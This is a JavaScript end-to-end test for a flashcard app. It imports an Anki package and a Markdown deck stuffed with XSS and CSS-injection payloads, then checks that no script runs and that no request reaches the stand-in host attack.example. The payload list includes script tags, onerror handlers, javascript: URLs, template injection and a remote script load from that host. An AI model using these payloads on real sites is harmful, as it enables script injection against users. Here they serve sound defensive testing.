import assert from 'node:assert/strict';

import { ankiPackage } from '../lib/anki.js';
import { bringFiles } from '../lib/importing.js';
import { journey } from '../lib/journey.js';
import { lookAt } from '../lib/look.js';
import { all, signUp } from '../lib/people.js';
import { answer, phase, question } from '../lib/studying.js';

/** Nothing of this name may ever be asked for, and no text of this colour be seen outside a card. */
const OUTSIDE = 'http://attack.example';
const COLOUR = 'rgb(1, 2, 3)';

/** Ways to run a script or to style the page, to be put wherever text can stand. `n` tells them apart. */
function attacks(n) {
  const mark = `document.documentElement.dataset.attacked=${n};alert(${n})`;
  return [
    `<script>${mark}</script>`,
    `<img src=x onerror="${mark}">`,
    `<svg onload="${mark}"><a xlink:href="javascript:${mark}"><rect width="9" height="9"/></a></svg>`,
    `"><img src=x onerror='${mark}'>`,
    `<a href="javascript:${mark}">press</a><a href=" java&#x0A;script:${mark}">press</a>`,
    `<iframe srcdoc="<script>parent.${mark}</script>"></iframe><object data="javascript:${mark}"></object>`,
    `<style>*{color:${COLOUR}!important}body{display:none!important}</style>`,
    `<link rel=stylesheet href="${OUTSIDE}/a.css"><img src="${OUTSIDE}/a.png"><meta http-equiv=refresh content="0;url=${OUTSIDE}">`,
    `<form action="${OUTSIDE}"><input name=q><button formaction="javascript:${mark}">send</button></form>`,
    `<math><mtext></p><style><img src=x onerror="${mark}"></style></mtext></math>`,
    `</textarea></title></script><script>${mark}</script>`,
    `{{constructor.constructor('${mark}')()}}\${${mark}}`,
    `<b style="position:fixed;inset:0;background:url(${OUTSIDE}/b.png)" onmouseover="${mark}" onfocus="${mark}" tabindex=0 autofocus>over</b>`,
    `<audio src=x onerror="${mark}" autoplay></audio><video poster="${OUTSIDE}/c.png"><source onerror="${mark}"></video>`,
    `<details open ontoggle="${mark}"><summary>open</summary></details><base href="${OUTSIDE}/">`,
  ];
}

function hostilePackage() {
  const name = `<img src=x onerror="alert('name')">`;
  const css = `@import url(${OUTSIDE}/i.css); *{color:${COLOUR}!important} .card{background:url("${OUTSIDE}/d.png")}
    @font-face{font-family:x;src:url(${OUTSIDE}/f.woff)} body{position:fixed;inset:0;z-index:9999;font-family:x}
    </style><script>parent.document.documentElement.dataset.attacked='css';alert('css')</script>`;
  const question = `{{Front}}<script>parent.document.documentElement.dataset.attacked='q';alert('q')</script>`;
  const back = `{{FrontSide}}<hr id=answer>{{Back}}<script src="${OUTSIDE}/a.js"></script><img src=x onerror="alert('a')">`;
  const types = [
    {
      name: `Type ${name}`,
      fields: ['Front', 'Back'],
      templates: [{ name: `Card ${name}`, question, answer: back }],
      css,
    },
    {
      name: `Gaps ${name}`,
      fields: ['Front', 'Back'],
      templates: [{ name: 'Gap', question: '{{cloze:Front}}', answer: `{{cloze:Front}}{{Back}}` }],
      css,
      cloze: true,
    },
  ];
  const tags = ` <script>alert('tag')</script> "><img/src=x/onerror=alert('tag')> `;
  const plain = attacks(1).map((attack) => ({ fields: [`${attack} front`, `${attack} back`], tags }));
  const gaps = attacks(2).slice(0, 4).map((attack) => ({
    type: 1,
    fields: [`Gap {{c1::${attack} inside::${attack} hint}}`, attack],
    tags,
  }));
  return ankiPackage({
    deck: `Hostile ${name}::<script>alert('deck')</script>`,
    description: attacks(3).join(''),
    types,
    notes: [...plain, ...gaps],
    media: [
      { name: `"><img src=x onerror=alert('media')>.png`, body: 'GIF89a' },
      { name: 'drawing.svg', body: `<svg xmlns="http://www.w3.org/2000/svg"><script>alert('svg')</script></svg>` },
      { name: 'page.html', body: `<script>alert('html')</script>` },
    ],
  });
}

/** The same in Markdown, where the text is ours to draw. */
function hostileMarkdown() {
  const blocks = attacks(4).map((attack) => `Q: ${attack} question\nA: ${attack} answer\n#<script>alert(5)</script>\n`);
  return `---\nname: ${attacks(5)[3]}\n---\n\n${blocks.join('\n---\n\n')}`;
}

journey('a hostile deck runs no script and styles nothing outside its cards', async ({ server, context, page, language, say }) => {
  const seen = watch(context, page, server);
  await signUp(page, say);

  const strange = `"><img src=x onerror=alert('file')>`;
  await bringFiles(page, say, [
    { name: `${strange}.apkg`, mimeType: 'application/zip', buffer: hostilePackage() },
    { name: `${strange}.md`, mimeType: 'text/markdown', buffer: Buffer.from(hostileMarkdown()) },
  ]);
  await unharmed(page, seen);
  const cards = await all(context, '/api/v1/cards?limit=200');
  assert.ok(cards.length >= 2 * attacks(0).length, `${cards.length} cards came`);

  // Every card, as it is studied.
  for (const part of parts(cards.map((card) => card.card_id), 50)) {
    await page.goto(`/study?cards=${part.join(',')}`);
    for (let n = 0; n < part.length; n++) {
      await question(page);
      await unharmed(page, seen);
      await answer(page, 3);
      await unharmed(page, seen);
      if ((await phase(page)) === 'summary') break;
    }
  }
  // Pictures without words are the deck's own.
  await lookAt(page, `hostile-${language}`, { except: ['image-alt'] });

  // Every page that links lead to, and the ones that a card has for itself.
  const { item_id, card_id } = cards[0];
  const begin = ['/today', '/decks', '/items', `/cards/${card_id}`, `/items/${item_id}`, '/search?q=front', '/settings', '/admin'];
  const visited = await wander(page, begin, 70, () => unharmed(page, seen));
  assert.ok(visited.length > begin.length);
});

/** What must never happen, counted for the whole journey. */
function watch(context, page, server) {
  const seen = { dialogs: [], outside: [], windows: 0 };
  page.on('dialog', (dialog) => {
    seen.dialogs.push(`${page.url()}: ${dialog.message()}`);
    return dialog.dismiss();
  });
  page.on('popup', () => seen.windows++);
  context.on('request', (request) => {
    if (!request.url().startsWith(server.url) && !/^(data|blob|about):/.test(request.url())) seen.outside.push(request.url());
  });
  return seen;
}

async function unharmed(page, seen) {
  assert.deepEqual(seen, { dialogs: [], outside: [], windows: 0 }, page.url());
  const { attacked, colour, shown } = await page.evaluate(() => ({
    attacked: document.documentElement.dataset.attacked,
    colour: getComputedStyle(document.body).color,
    shown: getComputedStyle(document.body).display,
  }));
  assert.equal(attacked, undefined, page.url());
  assert.notEqual(colour, COLOUR, page.url());
  assert.notEqual(shown, 'none', page.url());
}

/** Follows links of our own pages, at most so many pages, and fails on one that is not there. */
async function wander(page, begin, most, check) {
  const todo = [...begin];
  const known = new Set(todo);
  const visited = [];
  while (todo.length && visited.length < most) {
    const path = todo.shift();
    const answer = await page.goto(path);
    assert.ok(answer.status() < 400, `${path} answered ${answer.status()}`);
    await check();
    visited.push(path);
    const links = await page.locator('a[href^="/"]:not([download]):not([data-turbo="false"])').evaluateAll((all) => all.map((a) => a.getAttribute('href')));
    for (const link of links) {
      const address = link.split('#')[0];
      if (known.has(address) || /\.(txt|zip|apkg|csv|md)$|\/media\/|export/.test(address)) continue;
      known.add(address);
      todo.push(address);
    }
  }
  return visited;
}

function parts(list, size) {
  return Array.from({ length: Math.ceil(list.length / size) }, (_, n) => list.slice(n * size, (n + 1) * size));
}
